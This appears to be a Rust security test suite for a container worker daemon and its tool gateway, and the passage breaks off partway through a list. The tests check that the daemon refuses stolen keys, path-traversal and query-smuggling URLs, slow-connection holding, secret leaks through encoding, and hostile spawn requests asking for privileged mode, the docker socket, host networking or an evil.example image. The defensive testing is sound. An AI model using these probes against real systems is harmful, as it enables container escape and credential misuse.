    // shell_v1 allows project, deploy and respond: not infra.
    let script = "wget -qO- --post-data '{\"args\":{}}' --header \"Authorization: Bearer $ORCHESTRATOR_API_KEY\" \
                  \"$ORCHESTRATOR_API_URL/v1/tools/infra/list\" 2>&1; echo \"infra-exit=$?\"; \
                  wget -qO- --post-data '{\"args\":{}}' --header \"Authorization: Bearer wsk_not_a_key\" \
                  \"$ORCHESTRATOR_API_URL/v1/tools/respond/send\" 2>&1; echo \"badkey-exit=$?\"; \
                  echo \"respond=$(wget -qO- --post-data '{\"args\":{\"message\":\"hello from the key holder\"}}' \
                  --header \"Authorization: Bearer $ORCHESTRATOR_API_KEY\" \"$ORCHESTRATOR_API_URL/v1/tools/respond/send\")\"; \
                  echo probe-done; sleep 60";
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
    let c = inspect_worker(&d.prefix, &rid).await;
    let key = env_value(&c, "ORCHESTRATOR_API_KEY");
    assert_eq!(
        env_value(&c, "ORCHESTRATOR_API_URL"),
        "http://127.0.0.1:4750",
        "the gateway through the worker's egress socket"
    );
    // The host calls the gateway where it listens, on the bridge.
    let url = format!("http://{}:{}", internal_gateway_ip().await, d.gateway_port);
    assert!(key.starts_with("wsk_"), "{key}");

    // From inside: refused with 403 (not allowed) and 401 (wrong key).
    let lines = wait_output(&d.prefix, &rid, "probe-done").await;
    let all = lines.join("\n");
    assert!(all.contains("403"), "{all}");
    assert!(all.contains("401"), "{all}");
    assert!(
        !all.contains("infra-exit=0") && !all.contains("badkey-exit=0"),
        "{all}"
    );
    assert!(
        all.contains("respond={\"data\":{\"delivered\":true},\"ok\":true}"),
        "{all}"
    );

    // From the host, the worker's key is worth nothing (it is bound to the
    // worker's container); a wrong or missing key is refused first.
    for (path, body) in [
        ("infra/list", "{\"args\":{}}"),
        ("admin/nuke", "{}"),
        ("respond/send", "{\"args\":{\"message\":\"from the host\"}}"),
    ] {
        let (st, reply) = http_post(&format!("{url}/v1/tools/{path}"), Some(&key), body);
        assert_eq!(st, 403, "{path}: {reply}");
        assert_eq!(reply["error"]["code"], "wrong_caller", "{path}: {reply}");
    }
    let (st, body) = http_post(
        &format!("{url}/v1/tools/respond/send"),
        Some("wsk_0000"),
        "{\"args\":{\"message\":\"x\"}}",
    );
    assert_eq!(st, 401, "{body}");
    assert_eq!(body["error"]["code"], "unauthorized");
    let (st, body) = http_post(&format!("{url}/v1/tools/respond/send"), None, "{}");
    assert_eq!(st, 401, "{body}");
    let ev = wait_event_where(&d.prefix, &rid, Duration::from_secs(10), |e| {
        e["type"] == "respond"
    })
    .await;
    let respond = ev.iter().find(|e| e["type"] == "respond").unwrap();
    assert_eq!(respond["request_id"], rid.as_str());
    assert_eq!(respond["data"]["message"], "hello from the key holder");
    assert_eq!(respond["data"]["user_id"], "test-user");
    assert!(
        !ev.iter().any(|e| e["data"]["message"] == "from the host"),
        "{ev:#?}"
    );

    // Once the worker has ended, its key is worthless.
    let r = cancel(&d.prefix, &rid).await;
    assert_eq!(r["status"], "cancelled", "{r:#}");
    let (st, body) = http_post(
        &format!("{url}/v1/tools/respond/send"),
        Some(&key),
        "{\"args\":{\"message\":\"too late\"}}",
    );
    assert_eq!(st, 401, "{body}");
    let late = events_for(&d.prefix, &rid).await;
    assert!(
        !late.iter().any(|e| e["data"]["message"] == "too late"),
        "{late:#?}"
    );
}

/// Decision (issue #14): a worker's key is bound to its container. Another
/// worker (or the host) holding a copy gets 403 `wrong_caller`; the
/// gateway compares the caller's address with the key's container's
/// address on the workers' network.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_key_works_only_from_its_own_container() {
    let d = Daemon::start(DaemonOpts::new("sec-key-bound"));
    let owner = unique_request_id("key-owner");
    publish_spawn(&d.prefix, &shell_request(&owner, "shell_v1", "sleep 60")).await;
    let c = inspect_worker(&d.prefix, &owner).await;
    let key = env_value(&c, "ORCHESTRATOR_API_KEY");
    let thief = unique_request_id("key-thief");
    // First with its own key (the positive control), then with the owner's.
    let script = format!(
        r#"{GW_CALL_SH}
echo "own: $(gw /v1/tools/respond/send '{{"args":{{"message":"the thief own"}}}}' | head -1)"
ORCHESTRATOR_API_KEY={key}
echo "stolen: $(gw /v1/tools/respond/send '{{"args":{{"message":"sent with a stolen key"}}}}' | head -1)"
echo "stolen-body: $(gw /v1/tools/respond/send '{{"args":{{"message":"sent with a stolen key"}}}}' | tail -1)"
"#
    );
    publish_spawn(&d.prefix, &shell_request(&thief, "shell_v1", &script)).await;
    let r = wait_result(&d.prefix, &thief, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    let out = r["output"].as_str().unwrap();
    let st = statuses(out);
    assert_eq!(st.get("own").map(String::as_str), Some("200"), "{out}");
    assert_eq!(st.get("stolen").map(String::as_str), Some("403"), "{out}");
    assert!(
        out.contains("stolen-body: ") && out.contains("wrong_caller"),
        "{out}"
    );
    let ev = events_for(&d.prefix, &owner).await;
    assert!(
        !ev.iter().any(|e| e["type"] == "respond"),
        "a message reached the owner's events: {ev:#?}"
    );
    let r = cancel(&d.prefix, &owner).await;
    assert_eq!(r["status"], "cancelled", "{r:#}");
}

/// Decision (issue #14): the gateway bounds what one caller can hold. A
/// connection that sends no (or too slow) headers is closed after
/// `gateway_header_timeout`; a body that does not arrive in
/// `gateway_body_timeout` gets 408; one address keeps at most
/// `gateway_max_connections_per_caller` connections, one key at most
/// `gateway_max_inflight_per_key` requests in progress (429).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_gateway_bounds_idle_slow_and_greedy_callers() {
    let d = Daemon::start(
        DaemonOpts::new("sec-gw-bounds")
            .setting("worker_egress", "bridge")
            .setting("gateway_header_timeout", "3s")
            .setting("gateway_body_timeout", "3s")
            .setting("gateway_max_inflight_per_key", "2")
            .setting("gateway_max_connections_per_caller", "4"),
    );
    let rid = unique_request_id("greedy");
    // Three requests with the key whose bodies never come: two hold the
    // key's slots until the body timeout (408), the third is refused.
    let script = r#"HP=${ORCHESTRATOR_API_URL#http://}; GH=${HP%:*}; GP=${HP##*:}
hold() { { printf 'POST /v1/tools/respond/send HTTP/1.0\r\nHost: gw\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 40\r\n\r\n' "$ORCHESTRATOR_API_KEY"; sleep 8; } | nc -w 12 "$GH" "$GP" > "/tmp/$1" 2>&1; }
hold a & sleep 0.5; hold b & sleep 0.5; hold c & sleep 0.5
wait
for f in a b c; do echo "$f: $(head -1 /tmp/$f)"; done
cat /tmp/a /tmp/b /tmp/c
echo hold-done; sleep 30
"#;
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
    let c = inspect_worker(&d.prefix, &rid).await;
    let url = env_value(&c, "ORCHESTRATOR_API_URL");
    let addr: std::net::SocketAddr = url.trim_start_matches("http://").parse().unwrap();

    // From the host: an idle connection is closed after the header timeout.
    // How long until the server ends a connection that sends nothing.
    let idle_closed_after = |mut s: TcpStream| {
        let t = Instant::now();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut b = [0u8; 256];
        let n = s.read(&mut b).unwrap_or(usize::MAX);
        assert_ne!(n, usize::MAX, "still open after 10 s");
        t.elapsed()
    };
    let after = idle_closed_after(TcpStream::connect(addr).unwrap());
    assert!(
        after >= Duration::from_secs(2) && after < Duration::from_secs(7),
        "an idle connection lived {after:?}"
    );
    // Headers at one byte a second do not keep it open either.
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
    let t = Instant::now();
    let head = b"POST /v1/tools/respond/send HTTP/1.1\r\nHost: x\r\n";
    let mut closed = None;
    for byte in head {
        if s.write_all(&[*byte]).is_err() {
            closed = Some(t.elapsed());
            break;
        }
        let mut b = [0u8; 256];
        match s.read(&mut b) {
            Ok(_) => {
                closed = Some(t.elapsed());
                break;
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => {
                closed = Some(t.elapsed());
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(950));
    }
    let closed = closed.expect("a 1 byte/s client kept its connection");
    assert!(
        closed < Duration::from_secs(8),
        "slow headers lived {closed:?}"
    );
    // One address holds at most 4 connections: the fifth is closed at once.
    let held: Vec<TcpStream> = (0..4).map(|_| TcpStream::connect(addr).unwrap()).collect();
    std::thread::sleep(Duration::from_millis(200));
    let after = idle_closed_after(TcpStream::connect(addr).unwrap());
    assert!(
        after < Duration::from_secs(2),
        "the fifth connection lived {after:?}"
    );
    drop(held);

    // From the worker: two slow bodies hold the key's two slots.
    let lines = wait_output(&d.prefix, &rid, "hold-done").await;
    let all = lines.join("\n");
    let st = statuses(&all);
    assert_eq!(st.get("a").map(String::as_str), Some("408"), "{all}");
    assert_eq!(st.get("b").map(String::as_str), Some("408"), "{all}");
    assert_eq!(st.get("c").map(String::as_str), Some("429"), "{all}");
    assert!(all.contains("too_many_requests"), "{all}");
    let r = cancel(&d.prefix, &rid).await;
    assert_eq!(r["status"], "cancelled", "{r:#}");
}

/// Decision (issue #14): `respond` is rate-bound per worker like output:
/// past `respond_per_minute` (or `respond_bytes_per_minute`) a call gets
/// 429 `rate_limited`, nothing reaches Redis, and a `respond_dropped` event
/// counts what was refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn respond_is_rate_bound_per_worker_and_refusals_are_counted() {
    let d = Daemon::start(
        DaemonOpts::new("sec-respond-rate")
            .setting("respond_per_minute", "5")
            .setting("respond_bytes_per_minute", "1000000"),
    );
    let rid = unique_request_id("chatty");
    let script = format!(
        r#"{GW_CALL_SH}
for i in 1 2 3 4 5 6 7 8; do echo "r$i: $(gw /v1/tools/respond/send '{{"args":{{"message":"message '$i'"}}}}' | head -1)"; done
"#
    );
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", &script)).await;
    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    let out = r["output"].as_str().unwrap();
    let st = statuses(out);
    let ok = (1..=8)
        .filter(|i| st.get(&format!("r{i}")).map(String::as_str) == Some("200"))
        .count();
    let limited = (1..=8)
        .filter(|i| st.get(&format!("r{i}")).map(String::as_str) == Some("429"))
        .count();
    // Five at once, maybe one more refilled over the seconds the calls took.
    assert!((5..=6).contains(&ok), "{ok} accepted: {out}");
    assert_eq!(ok + limited, 8, "{out}");
    let ev = wait_event_where(&d.prefix, &rid, Duration::from_secs(15), |e| {
        e["type"] == "respond_dropped"
    })
    .await;
    let responds = ev.iter().filter(|e| e["type"] == "respond").count();
    assert_eq!(responds, ok, "{ev:#?}");
    tokio::time::sleep(Duration::from_secs(6)).await;
    let dropped: u64 = events_for(&d.prefix, &rid)
        .await
        .iter()
        .filter(|e| e["type"] == "respond_dropped")
        .map(|e| e["data"]["messages"].as_u64().unwrap())
        .sum();
    assert_eq!(dropped as usize, limited, "every refusal is counted");
}

/// Shell (busybox) that defines `gw PATH BODY`: one raw HTTP/1.0 POST to
/// the worker's gateway with its key, the path sent byte for byte (no
/// client normalises it), printing the response. The request side stays
/// open a moment: a half-closed connection ends the request.
const GW_CALL_SH: &str = r#"HP=${ORCHESTRATOR_API_URL#http://}; GH=${HP%:*}; GP=${HP##*:}
gw() { { printf 'POST %s HTTP/1.0\r\nHost: gw\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' "$1" "$ORCHESTRATOR_API_KEY" "${#2}" "$2"; sleep 1; } | nc -w 10 "$GH" "$GP"; }
"#;

/// Status code of each `tag: HTTP/1.x NNN` line the worker printed.
fn statuses(out: &str) -> HashMap<String, String> {
    out.lines()
        .filter_map(|l| {
            let (tag, rest) = l.split_once(": HTTP/1.")?;
            Some((tag.to_string(), rest.split_whitespace().nth(1)?.to_string()))
        })
        .collect()
}

/// Issue #14, 3: a worker allowed only `project` must not reach another
/// group's upstream path (`%2e%2e%2f`) or smuggle a query string (`%3f`)
/// through the action; only validated parts form the upstream URL, and the
/// identity the upstream sees is the gateway's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_gateway_forwards_only_validated_group_and_action_names() {
    let (upstream, calls) = tool_backend();
    let d = Daemon::start(DaemonOpts::new("sec-gw-path").setting("upstream_url", &upstream));
    let rid = unique_request_id("gwpath");
    let script = format!(
        r#"{GW_CALL_SH}
echo "walk: $(gw /v1/tools/project/%2e%2e%2fdeploy%2ftrigger '{{"args":{{}}}}' | head -1)"
echo "query: $(gw '/v1/tools/project/list%3fuser_id=victim%26request_id=other' '{{"args":{{}}}}' | head -1)"
echo "dots: $(gw /v1/tools/project/.. '{{"args":{{}}}}' | head -1)"
echo "group: $(gw /v1/tools/%2e%2e/trigger '{{"args":{{}}}}' | head -1)"
echo "upper: $(gw /v1/tools/project/LIST '{{"args":{{}}}}' | head -1)"
echo "body: $(gw /v1/tools/project/%2e%2e%2fdeploy%2ftrigger '{{"args":{{}}}}' | tail -1)"
echo "good: $(gw /v1/tools/project/list '{{"args":{{"x":1}},"user_id":"victim","request_id":"other"}}' | head -1)"
"#
    );
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", &script)).await;
    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    let out = r["output"].as_str().unwrap();
    let st = statuses(out);
    for tag in ["walk", "query", "dots", "group", "upper"] {
        assert_eq!(st.get(tag).map(String::as_str), Some("400"), "{tag}: {out}");
    }
    assert!(out.contains("invalid_action"), "{out}");
    assert_eq!(st.get("good").map(String::as_str), Some("200"), "{out}");
    let calls = calls.lock().unwrap().clone();
    assert_eq!(
        calls.len(),
        1,
        "only the valid call went upstream: {calls:#?}"
    );
    let (target, body) = &calls[0];
    assert_eq!(target, "/v1/tools/project/list");
    let body: Value = serde_json::from_str(body).unwrap();
    assert_eq!(body["request_id"], rid.as_str(), "{body}");
    assert_eq!(body["user_id"], "test-user", "{body}");
    assert_eq!(body["args"], json!({"x": 1}), "{body}");
}

// ---------------------------------------------------------------- container names

/// The container name an older daemon gave request `rid` under a prefix
/// other than the default: `ws-<prefix>_<rid, ':' as '_'>-<4 bytes of
/// sha256("<prefix>/<rid>")>` (the scheme before issue #14).
fn old_scheme_name(prefix: &str, rid: &str) -> String {
    use sha2::{Digest, Sha256};
    let id = format!("{prefix}/{rid}");
    let clean: String = id
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-') {
                c
            } else {
                '_'
            }
        })
        .collect();
    let h = hex::encode(&Sha256::digest(id.as_bytes())[..4]);
    format!("ws-{clean}-{h}")
}

/// Two request ids that got the same container name under the old scheme
/// for `prefix` (a birthday search over ids of `_` and `:`, which all read
/// alike once `:` is `_`).
fn old_scheme_collision(prefix: &str) -> (String, String) {
    let mut seen: HashMap<String, String> = HashMap::new();
    for i in 0u64.. {
        let rid: String = std::iter::once("col-".to_string())
            .chain((0..24).map(|b| if i >> b & 1 == 1 { ":" } else { "_" }.to_string()))
            .collect();
        let name = old_scheme_name(prefix, &rid);
        if let Some(other) = seen.insert(name, rid.clone()) {
            return (other, rid);
        }
    }
    unreachable!()
}

/// A managed container of `prefix` made the way a daemon would, started.
async fn labelled_container(name: &str, labels: &[(&str, &str)], script: &str) -> String {
    let d = docker().await;
    let body = ContainerCreateBody {
        image: Some(test_image()),
        cmd: Some(vec!["sh".into(), "-c".into(), script.into()]),
        user: Some("1000:1000".into()),
        labels: Some(
            labels
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
        ),
        host_config: Some(HostConfig {
            network_mode: Some("none".into()),
            cap_drop: Some(vec!["ALL".into()]),
            init: Some(true),
            ..Default::default()
        }),
        ..Default::default()
    };
    let id = d
        .create_container(
            Some(CreateContainerOptions {
                name: Some(name.to_string()),
                ..Default::default()
            }),
            body,
        )
        .await
        .expect("create the labelled container")
        .id;
    d.start_container(
        &id,
        None::<bollard::query_parameters::StartContainerOptions>,
    )
    .await
    .expect("start the labelled container");
    id
}

/// Issue #14, 4: request ids whose container names collided under the old
/// scheme each get their own container and their own answer (the second
/// was acknowledged as a "redelivery" of the first and never answered).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn request_ids_that_read_alike_get_their_own_containers_and_answers() {
    let d = Daemon::start(DaemonOpts::new("sec-names"));
    let (a, b) = old_scheme_collision(&d.prefix);
    assert_ne!(a, b);
    publish_spawn(
        &d.prefix,
        &shell_request(&a, "shell_v1", "echo mine=a; sleep 3"),
    )
    .await;
    // The second arrives while the first's container exists.
    inspect_worker(&d.prefix, &a).await;
    publish_spawn(&d.prefix, &shell_request(&b, "shell_v1", "echo mine=b")).await;
    let rb = wait_result(&d.prefix, &b, Duration::from_secs(60)).await;
    let ra = wait_result(&d.prefix, &a, RESULT_TIMEOUT).await;
    assert_eq!(ra["status"], "succeeded", "{ra:#}");
    assert_eq!(rb["status"], "succeeded", "{rb:#}");
    assert!(ra["output"].as_str().unwrap().contains("mine=a"), "{ra:#}");
    assert!(rb["output"].as_str().unwrap().contains("mine=b"), "{rb:#}");
    assert_ne!(ra["worker"]["container"], rb["worker"]["container"]);
}

/// Issue #14, 4: a managed container under a request's name whose labels
/// name another request is not that request's container: `error`
/// `name_conflict`, never a silent acknowledgement, and the container is
/// left alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_container_under_a_requests_name_holding_another_request_is_a_name_conflict() {
    let d = Daemon::start(DaemonOpts::new("sec-name-held"));
    let rid = unique_request_id("held");
    let name = workers_spawner::model::container::request_container_name(&d.prefix, &rid);
    let holder = labelled_container(
        &name,
        &[
            (MANAGED_LABEL, "true"),
            (PREFIX_LABEL, &d.prefix),
            ("io.workers-spawner.request-id", "some-other-request"),
            ("io.workers-spawner.instance", &d.instance_id),
            ("io.workers-spawner.deadline", "4000000000"),
            ("io.workers-spawner.kind", "oneshot"),
        ],
        "sleep 60",
    )
    .await;
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", "echo hi")).await;
    let r = wait_result(&d.prefix, &rid, Duration::from_secs(60)).await;
    assert_eq!(r["status"], "error", "{r:#}");
    assert_eq!(r["error"]["code"], "name_conflict", "{r:#}");
    assert_eq!(r["error"]["field"], "request_id", "{r:#}");
    let c = docker()
        .await
        .inspect_container(&holder, None::<InspectContainerOptions>)
        .await
        .expect("the holder is left alone");
    assert_eq!(c.state.and_then(|s| s.running), Some(true));
    assert_eq!(pending_count(&d.prefix).await, 0, "the entry was answered");
}

/// An upgraded daemon takes a container an older daemon named under the
/// old scheme for its request by its labels: a redelivered entry follows
/// it (no second container while its live owner runs it), and once the
/// owner is gone it is adopted and answered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_named_by_an_older_daemon_are_followed_and_adopted_by_their_labels() {
    let prefix = unique_prefix("sec-old-names");
    let rid = unique_request_id("old");
    let s = streams(&prefix);
    let mut c = redis_conn().await;
    let _: () = redis::cmd("XGROUP")
        .arg("CREATE")
        .arg(&s.spawn)
        .arg("workers-spawner")
        .arg("0")
        .arg("MKSTREAM")
        .query_async(&mut c)
        .await
        .unwrap();
    let entry = publish_spawn(&prefix, &shell_request(&rid, "shell_v1", "echo new-ran")).await;
    // The older daemon read the entry (it stays pending on its consumer:
    // its ack was lost) and created and started the worker.
    let _: redis::Value = redis::cmd("XREADGROUP")
        .arg("GROUP")
        .arg("workers-spawner")
        .arg("old-daemon")
        .arg("COUNT")
        .arg(1)
        .arg("STREAMS")
        .arg(&s.spawn)
        .arg(">")
        .query_async(&mut c)
        .await
        .unwrap();
    let old = "old-daemon";
    let hb = format!("{prefix}:instance:{old}");
    let _: () = redis::cmd("SET")
        .arg(&hb)
        .arg("alive")
        .arg("EX")
        .arg(60)
        .query_async(&mut c)
        .await
        .unwrap();
    let old_name = old_scheme_name(&prefix, &rid);
    assert_ne!(
        old_name,
        workers_spawner::model::container::request_container_name(&prefix, &rid)
    );
    labelled_container(
        &old_name,
        &[
            (MANAGED_LABEL, "true"),
            (PREFIX_LABEL, &prefix),
            ("io.workers-spawner.request-id", &rid),
            ("io.workers-spawner.preset", "shell_v1"),
            ("io.workers-spawner.instance", old),
            ("io.workers-spawner.deadline", "4000000000"),
            ("io.workers-spawner.kind", "oneshot"),
            ("io.workers-spawner.entry-id", &entry),
        ],
        "echo old-ran; sleep 8",
    )
    .await;
    let d = Daemon::start(
        DaemonOpts::new("sec-old-names")
            .prefix(&prefix)
            .setting("reclaim_min_idle", "1s"),
    );
    // The redelivered entry is answered by the old container's existence.
    let deadline = Instant::now() + Duration::from_secs(30);
    while pending_count(&prefix).await > 0 {
        assert!(
            Instant::now() < deadline,
            "the redelivered entry stayed pending"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(
        results_for(&prefix, &rid).await.is_empty(),
        "its live owner answers"
    );
    // Its owner dies: the upgraded daemon adopts and answers it.
    let _: () = redis::cmd("DEL")
        .arg(&hb)
        .query_async(&mut c)
        .await
        .unwrap();
    let r = wait_result(&prefix, &rid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    assert!(r["output"].as_str().unwrap().contains("old-ran"), "{r:#}");
    assert_eq!(r["worker"]["container"], old_name.as_str(), "{r:#}");
    let ev = events_for(&prefix, &rid).await;
    assert!(
        !ev.iter().any(|e| e["type"] == "container_created"),
        "a second container was created: {ev:#?}"
    );
    assert_eq!(results_for(&prefix, &rid).await.len(), 1);
    drop(d);
}

// ---------------------------------------------------------------- secrets

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_echoed_by_a_worker_in_any_common_encoding_are_masked_everywhere() {
    use base64::Engine as _;
    let secret = format!("s3cr3t-Val.ue/with space&more=42_x~{}", random_suffix());
    let d = Daemon::start(DaemonOpts::new("sec-secrets").env("WS_TEST_SECRET", &secret));
    let rid = unique_request_id("leak");
    let script = r#"S="$SECRET_TOKEN"; K="$ORCHESTRATOR_API_KEY"
echo "plain:$S"
echo "err:$S" >&2
echo "b64:$(printf %s "$S" | base64)"
echo "b64-offset1:$(printf 'x%s' "$S" | base64)"
echo "b64-offset2:$(printf 'xy%s' "$S" | base64)"
echo "hex:$(printf %s "$S" | od -An -tx1 | tr -d ' \n')"
echo "url:$(printf %s "$S" | sed -e 's/%/%25/g' -e 's/ /%20/g' -e 's#/#%2F#g' -e 's/&/%26/g' -e 's/=/%3D/g')"
echo "url-lower:$(printf %s "$S" | sed -e 's/%/%25/g' -e 's/ /%20/g' -e 's#/#%2f#g' -e 's/&/%26/g' -e 's/=/%3d/g')"
echo "form:$(printf %s "$S" | sed -e 's/%/%25/g' -e 's/ /+/g' -e 's#/#%2F#g' -e 's/&/%26/g' -e 's/=/%3D/g')"
echo "key:$K"
echo "key-b64:$(printf %s "$K" | base64)"
wget -qO- --post-data "{\"args\":{\"message\":\"respond:$S key:$K\"}}" --header "Authorization: Bearer $K" "$ORCHESTRATOR_API_URL/v1/tools/respond/send" >/dev/null
echo done"#;
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
    let c = inspect_worker(&d.prefix, &rid).await;
    let key = env_value(&c, "ORCHESTRATOR_API_KEY");
    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");

    // A poison entry carrying the secret (no usable request id).
    publish_raw(
        &d.prefix,
        json!({"task": {"prompt": format!("leaked {secret}")}})
            .to_string()
            .as_bytes(),
    )
    .await;
    wait_dead_letter(&d.prefix, Duration::from_secs(30), |v| {
        v["reason"]
            .as_str()
            .is_some_and(|r| r.contains("request_id"))
    })
    .await;

    let b64 = base64::engine::general_purpose::STANDARD;
    let pct = |s: &str, space: &str, lower: bool| {
        let mut o = String::new();
        for ch in s.chars() {
            match ch {
                'A'..='Z' | 'a'..='z' | '0'..='9' | '-' | '.' | '_' | '~' => o.push(ch),
                ' ' if space == "+" => o.push('+'),
                _ => {
                    let h = format!("%{:02X}", ch as u32);
                    o.push_str(&if lower { h.to_lowercase() } else { h });
                }
            }
        }
        o
    };
    let forbidden = [
        secret.clone(),
        b64.encode(&secret),
        b64.encode(format!("x{secret}")),
        b64.encode(format!("xy{secret}")),
        hex::encode(&secret),
        pct(&secret, "%20", false),
        pct(&secret, "%20", true),
        pct(&secret, "+", false),
        key.clone(),
        b64.encode(&key),
    ];
    let events = stream_json(&streams(&d.prefix).events).await;
    let results = all_results(&d.prefix).await;
    let dead = dead_letters(&d.prefix).await;
    let everything = format!(
        "{}\n{}\n{}\n{}",
        serde_json::to_string(&events).unwrap(),
        serde_json::to_string(&results).unwrap(),
        serde_json::to_string(&dead).unwrap(),
        d.stderr()
    );
    for f in &forbidden {
        assert!(
            !everything.contains(f.as_str()),
            "{f:?} leaked; output: {:#?}",
            output_lines(&events, "stdout")
        );
    }
    // Every echo line is there, masked.
    let out = r["output"].as_str().unwrap();
    for tag in [
        "plain:",
        "b64:",
        "b64-offset1:",
        "b64-offset2:",
        "hex:",
        "url:",
        "url-lower:",
        "form:",
        "key:",
        "key-b64:",
    ] {
        let line = out
            .lines()
            .find(|l| l.starts_with(tag))
            .unwrap_or_else(|| panic!("no {tag} line in {out}"));
        assert!(line.contains(MASK), "{line}");
    }
    let ev = events_for(&d.prefix, &rid).await;
    let stderr = output_lines(&ev, "stderr");
    assert!(
        stderr.iter().any(|l| l == &format!("err:{MASK}")),
        "{stderr:?}"
    );
    let respond = ev
        .iter()
        .find(|e| e["type"] == "respond")
        .expect("respond event");
    assert_eq!(
        respond["data"]["message"],
        format!("respond:{MASK} key:{MASK}").as_str()
    );
}

// ---------------------------------------------------------------- hostile input

/// Hostile requests (docs/security.md): each gets a typed rejection naming
/// the field, creates no container, and the daemon keeps serving.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_requests_get_typed_answers_and_change_nothing() {
    let presets = security_presets();
    let d = Daemon::start(DaemonOpts::new("sec-hostile").presets_dir(presets.path()));
    let big = "x".repeat(300 * 1024);
    let mut deep = json!({});
    for _ in 0..20 {
        deep = json!({ "env": deep });
    }
    let many_env: serde_json::Map<String, Value> = (0..2000)
        .map(|i| (format!("K{i}"), json!("v".repeat(30))))
        .collect();
    // (label, preset, override, prompt, expected field)
    let cases: Vec<(&str, &str, Value, &str, &str)> = vec![
        (
            "cap_add",
            "shell_v1",
            json!({"security": {"cap_add": ["SYS_ADMIN"]}}),
            "x",
            "security.cap_add",
        ),
        (
            "read_only_root off",
            "ro_v1",
            json!({"security": {"read_only_root": false}}),
            "x",
            "security.read_only_root",
        ),
        (
            "internet on",
            "shell_v1",
            json!({"has_internet": true}),
            "x",
            "has_internet",
        ),
        (
            "memory up",
            "shell_v1",
            json!({"limits": {"memory": "64g"}}),
            "x",
            "limits.memory",
        ),
        (
            "cpu up",
            "shell_v1",
            json!({"limits": {"cpu": 64}}),
            "x",
            "limits.cpu",
        ),
        // Lower is not narrower below the engine's floor: NanoCpus 0 is
        // "unlimited", 0.001 fails at start.
        (
            "cpu tiny (would be NanoCpus 0)",
            "shell_v1",
            json!({"limits": {"cpu": 1e-10}}),
            "x",
            "limits.cpu",
        ),
        (
            "cpu below the runtime's floor",
            "shell_v1",
            json!({"limits": {"cpu": 0.001}}),
            "x",
            "limits.cpu",
        ),
        (
            "cpu negative zero",
            "shell_v1",
            json!({"limits": {"cpu": -0.0}}),
            "x",
            "limits.cpu",
        ),
        (
            "cpu subnormal",
            "shell_v1",
            json!({"limits": {"cpu": 5e-324}}),
            "x",
            "limits.cpu",
        ),
        (
            "pids zero (unlimited)",
            "shell_v1",
            json!({"limits": {"pids": 0}}),
            "x",
            "limits.pids",
        ),
        (
            "memory zero (unlimited)",
            "shell_v1",
            json!({"limits": {"memory": "0"}}),
            "x",
            "limits.memory",
        ),
        (
            "timeout zero",
            "shell_v1",
            json!({"limits": {"timeout_sec": 0}}),
            "x",
            "limits.timeout_sec",
        ),
        (
            "pids up",
            "shell_v1",
            json!({"limits": {"pids": 4096}}),
            "x",
            "limits.pids",
        ),
        (
            "timeout up",
            "shell_v1",
            json!({"limits": {"timeout_sec": 86400}}),
            "x",
            "limits.timeout_sec",
        ),
        (
            "ttl up",
            "shell_v1",
            json!({"limits": {"ttl_sec": 86400}}),
            "x",
            "limits.ttl_sec",
        ),
        (
            "privileged",
            "shell_v1",
            json!({"privileged": true}),
            "x",
            "privileged",
        ),
        (
            "host network",
            "shell_v1",
            json!({"network": "host"}),
            "x",
            "network",
        ),
        (
            "docker socket",
            "shell_v1",
            json!({"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]}),
            "x",
            "volumes",
        ),
        (
            "image outside allowlist",
            "shell_v1",
            json!({"image": "evil.example/x:1"}),
            "x",
            "image",
        ),
        (
            "bad image reference",
            "shell_v1",
            json!({"image": "../../x"}),
            "x",
            "image",
        ),
        (
            "reserved env",
            "shell_v1",
            json!({"env": {"ORCHESTRATOR_ALLOWED_TOOLS": "admin"}}),
            "x",
            "env.ORCHESTRATOR_ALLOWED_TOOLS",
        ),
        (
            "reserved env lowercase",
            "shell_v1",
            json!({"env": {"orchestrator_api_url": "http://x"}}),
            "x",
            "env.orchestrator_api_url",
        ),
        (
            "from_env of the daemon",
            "shell_v1",
            json!({"env": {"X": {"from_env": "WS_TEST_REDIS_URL"}}}),
            "x",
            "env.X",
        ),
        (
            "env BASH_ENV",
            "shell_v1",
            json!({"env": {"BASH_ENV": "/home/worker/.orchestrator/prompt.md"}}),
            "x",
            "env.BASH_ENV",
        ),
        (
            "env ENV",
            "shell_v1",
